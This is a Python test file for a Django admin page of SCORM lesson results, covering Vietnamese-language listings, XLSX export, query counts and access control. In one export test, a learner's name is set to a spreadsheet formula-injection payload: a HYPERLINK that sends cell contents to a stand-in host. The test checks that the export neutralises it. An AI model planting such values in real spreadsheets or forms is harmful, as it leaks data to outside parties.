"""SCORM results (scorm/admin_views.py): the SCORM lessons a trainer or an administrator
supervises, each learner's record of one of them in Vietnamese words, and its XLSX export."""

import io
from datetime import datetime, timedelta
from decimal import Decimal
from html.parser import HTMLParser

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.db import connection
from django.test import Client
from django.utils import timezone

from people.models import AuditEntry
from people.roles import TRAINERS
from scorm.models import ScormLessonPage, ScormPackage, ScormRecord
from scorm.packages import read_package
from tests.conftest import client_for, enrol, make_course, make_user
from tests.scorm_builder import scorm12_package

RESULTS = "/admin/scorm/results/"


def make_package(title="Gói SCORM Báo cáo", replaces=None):
    upload = ContentFile(scorm12_package(title=title), name="goi.zip")
    return ScormPackage.create_from_upload(upload, read_package(upload), replaces=replaces)


def add_scorm_lesson(course, title="An toàn thông tin", slug="an-toan-thong-tin"):
    return course.add_child(instance=ScormLessonPage(title=title, slug=slug, live=True, package=make_package()))


def record(lesson, user, **fields):
    enrolment = enrol(user, lesson.course)
    fields.setdefault("package", lesson.package)
    return ScormRecord.objects.create(enrolment=enrolment, lesson=lesson, **fields)


@pytest.fixture
def course(course_index, trainer):
    course, _lessons = make_course(course_index, n_lessons=1, trainer=trainer, title="Chuyển đổi số")
    return course


@pytest.fixture
def lesson(course):
    return add_scorm_lesson(course)


@pytest.fixture
def results(lesson, units):
    """Two learners: Lan passed with 92% after two runs, Hùng is still in it."""
    started = timezone.make_aware(datetime(2026, 3, 2, 8, 30))
    lan = make_user("hv-lan", profile={"full_name": "Nguyễn Thị Lan", "institution": units["library_a"]})
    hung = make_user("hv-hung", profile={"full_name": "Trần Văn Hùng", "institution": units["library_b"]})
    passed = record(
        lesson,
        lan,
        status="passed",
        success="passed",
        score=Decimal("92.0"),
        earlier_seconds=3600,
        run_seconds=125,
        launches=2,
        started_at=started,
        saved_at=started + timedelta(days=1),
        completed_at=started + timedelta(days=1),
    )
    in_progress = record(lesson, hung, status="incomplete", launches=1, run_seconds=59, started_at=started)
    return passed, in_progress


def rows_of(response):
    """The body rows of the page's listing table as lists of cell texts."""

    class Rows(HTMLParser):
        def __init__(self):
            super().__init__()
            self.rows, self.cell, self.in_listing, self.in_body = [], None, False, False

        def handle_starttag(self, tag, attrs):
            if tag == "table" and "listing" in (dict(attrs).get("class") or "").split():
                self.in_listing = True
            elif tag == "tbody" and self.in_listing:
                self.in_body = True
            elif tag == "tr" and self.in_body:
                self.rows.append([])
            elif tag == "td" and self.in_body:
                self.cell = ""

        def handle_endtag(self, tag):
            if tag == "td" and self.cell is not None:
                self.rows[-1].append(" ".join(self.cell.split()))
                self.cell = None
            elif tag == "tbody":
                self.in_body = False
            elif tag == "table":
                self.in_listing = False

        def handle_data(self, data):
            if self.cell is not None:
                self.cell += data

    parser = Rows()
    parser.feed(response.content.decode())
    return parser.rows


def queries_of(request):
    """How many queries ``request()`` makes. Counted as they run: each request empties the log
    that ``CaptureQueriesContext`` reads."""
    count = 0

    def counter(execute, sql, params, many, context):
        nonlocal count
        count += 1
        return execute(sql, params, many, context)

    with connection.execute_wrapper(counter):
        request()
    return count


def vietnamese_client(user):
    client = Client()  # the site's default language
    client.force_login(user)
    return client


# The lessons ---------------------------------------------------------------------------------


def test_index_lists_the_trainers_scorm_lessons_with_their_figures(results, lesson, trainer):
    response = client_for(trainer).get(RESULTS)

    assert response.status_code == 200
    assert f"{RESULTS}{lesson.pk}/" in response.text
    assert rows_of(response) == [["An toàn thông tin", "Chuyển đổi số", "version 1", "2", "1", "92.0%"]]


def test_index_leaves_out_the_lessons_of_other_courses(results, course_index, trainer):
    other_course, _lessons = make_course(course_index, 1, title="Khoá khác")
    add_scorm_lesson(other_course, title="Gói của khoá khác", slug="goi-khac")

    response = client_for(trainer).get(RESULTS)

    assert "Gói của khoá khác" not in response.text
    assert len(rows_of(response)) == 1


def test_index_in_vietnamese(results, trainer):
    page = vietnamese_client(trainer).get(RESULTS).content.decode()

    assert "Kết quả bài học SCORM" in page
    assert "Học viên đã mở" in page
    assert "phiên bản 1" in page


def test_index_queries_do_not_grow_with_lessons(course, trainer):
    client = client_for(trainer)

    def queries():
        client.get(RESULTS)  # the site's caches filled (adding a page empties them)
        return queries_of(lambda: client.get(RESULTS))

    add_scorm_lesson(course)
    one = queries()
    for n in range(5):
        add_scorm_lesson(course, title=f"Gói {n}", slug=f"goi-{n}")

    assert one > 5
    assert queries() == one


# One lesson's learners ----------------------------------------------------------------------------


def test_a_row_per_learner_by_name_in_vietnamese_words(results, lesson, trainer):
    response = vietnamese_client(trainer).get(f"{RESULTS}{lesson.pk}/")

    assert response.status_code == 200
    assert rows_of(response) == [
        [
            "Nguyễn Thị Lan",
            "Thư viện huyện Đại Từ",
            "Đạt",
            "Đạt",
            "92",
            "1:02:05",
            "2",
            "08:30 02/03/2026",
            "08:30 03/03/2026",
            "08:30 03/03/2026",
            "phiên bản 1",
        ],
        [
            "Trần Văn Hùng",
            "Thư viện huyện Phú Lương",
            "Đang học",
            "Chưa đánh giá",
            "—",
            "0:00:59",
            "1",
            "08:30 02/03/2026",
            "—",
            "—",
            "phiên bản 1",
        ],
    ]
    page = response.content.decode()
    assert "Kết quả bài học SCORM: An toàn thông tin" in page
    assert "incomplete" not in page
    assert "2 học viên" in page
    assert "?export=xlsx" in page  # the header's download


def test_rows_sort_by_name_or_score(results, lesson, trainer):
    client = client_for(trainer)

    def names(ordering):
        return [row[0] for row in rows_of(client.get(f"{RESULTS}{lesson.pk}/?ordering={ordering}"))]

    assert names("-learner") == ["Trần Văn Hùng", "Nguyễn Thị Lan"]
    assert names("-score") == ["Nguyễn Thị Lan", "Trần Văn Hùng"]
    assert names("score") == ["Nguyễn Thị Lan", "Trần Văn Hùng"]  # no score yet sorts last either way


def test_a_record_saved_with_an_earlier_version_says_so(results, lesson, trainer):
    lesson.package = make_package(replaces=lesson.package)
    lesson.save()

    rows = rows_of(client_for(trainer).get(f"{RESULTS}{lesson.pk}/"))

    assert [row[-1] for row in rows] == ["version 1", "version 1"]


def test_the_page_is_paginated_and_its_queries_do_not_grow_with_rows(lesson, trainer, units):
    def add_learners(numbers):
        for n in numbers:
            profile = {"full_name": f"Học viên {n:02d}", "institution": units["library_a"]}
            record(lesson, make_user(f"hv{n:02d}", profile=profile), status="completed", score=Decimal(n))

    client = client_for(trainer)
    url = f"{RESULTS}{lesson.pk}/"
    add_learners([0])
    client.get(url)  # the site's caches filled
    one_row = queries_of(lambda: client.get(url))
    add_learners(range(1, 60))
    client.get(url)

    assert one_row > 5
    assert queries_of(lambda: client.get(url)) == one_row
    response = client.get(url)
    assert [row[0] for row in rows_of(response)] == [f"Học viên {n:02d}" for n in range(50)]
    assert "60 learners" in response.text
    response = client.get(f"{url}?p=2")
    assert [row[0] for row in rows_of(response)] == [f"Học viên {n}" for n in range(50, 60)]


def test_the_export_queries_do_not_grow_with_rows(lesson, trainer):
    client = client_for(trainer)
    url = f"{RESULTS}{lesson.pk}/?export=xlsx"

    def export():
        response = client.get(url)
        assert response.status_code == 200
        return b"".join(response.streaming_content)

    record(lesson, make_user("hv-dau", profile={"full_name": "Học viên đầu"}))
    export()  # the site's caches filled
    one_row = queries_of(export)
    for n in range(30):
        record(lesson, make_user(f"hv{n:02d}", profile={"full_name": f"Học viên {n:02d}"}))
    export()

    assert one_row > 5
    assert queries_of(export) == one_row


# The export ---------------------------------------------------------------------------------------


def test_xlsx_export_holds_every_row_formula_safe_and_is_audited(results, lesson, trainer):
    formula, _in_progress = results
    profile = formula.enrolment.user.staff_profile
    profile.full_name = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
    profile.save()

    response = vietnamese_client(trainer).get(f"{RESULTS}{lesson.pk}/?export=xlsx")

    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == [
        "Học viên",
        "Đơn vị",
        "Trạng thái",
        "Kết quả",
        "Điểm (%)",
        "Tổng thời gian",
        "Số lần học",
        "Mở lần đầu",
        "Lưu lần cuối",
        "Hoàn thành lúc",
        "Phiên bản gói",
    ]
    learners = {row[0]: row for row in rows[1:]}
    assert set(learners) == {'\'=HYPERLINK("http://x.example/?"&A1,"Bấm")', "Trần Văn Hùng"}
    lan = learners['\'=HYPERLINK("http://x.example/?"&A1,"Bấm")']
    assert lan[1:7] == ["Thư viện huyện Đại Từ", "Đạt", "Đạt", 92, "1:02:05", 2]
    assert lan[7] == datetime(2026, 3, 2, 8, 30)
    assert lan[10] == "phiên bản 1"
    hung = learners["Trần Văn Hùng"]
    assert hung[2:5] == ["Đang học", "Chưa đánh giá", None]
    assert hung[8] is None
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    log = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT)
    assert (log.user, log.kind, log.file_format, log.rows) == (trainer, "SCORM results", "xlsx", 2)


# Who sees what ------------------------------------------------------------------------------------


def test_a_trainer_of_another_course_gets_404_and_an_empty_index(results, lesson):
    stranger = make_user("gv-khac", groups=[TRAINERS])
    client = client_for(stranger)

    assert client.get(f"{RESULTS}{lesson.pk}/").status_code == 404
    assert client.get(f"{RESULTS}{lesson.pk}/?export=xlsx").status_code == 404
    assert "An toàn thông tin" not in client.get(RESULTS).text


def test_a_trainer_no_longer_assigned_loses_the_lesson(results, lesson, course, trainer):
    course.trainer_roles.all().delete()

    assert client_for(trainer).get(f"{RESULTS}{lesson.pk}/").status_code == 404


def test_a_provincial_administrator_sees_every_scorm_lesson(results, lesson, provincial_admin):
    client = client_for(provincial_admin)

    assert f"{RESULTS}{lesson.pk}/" in client.get(RESULTS).text
    assert "Nguyễn Thị Lan" in client.get(f"{RESULTS}{lesson.pk}/").text


def test_hr_and_learners_are_refused(results, lesson, hr, learner):
    for user in (hr, learner):
        for url in (RESULTS, f"{RESULTS}{lesson.pk}/", f"{RESULTS}{lesson.pk}/?export=xlsx"):
            response = client_for(user).get(url)
            assert response.status_code in (302, 403)
            if response.status_code == 302:
                assert response["Location"] == "/admin/" or response["Location"].startswith("/admin/login/")
            assert "Nguyễn Thị Lan" not in response.content.decode()
    assert not AuditEntry.objects.filter(action=AuditEntry.Action.EXPORT).exists()


def test_anonymous_visitors_are_sent_to_log_in(results, lesson):
    for url in (RESULTS, f"{RESULTS}{lesson.pk}/"):
        response = client_for().get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/login/")
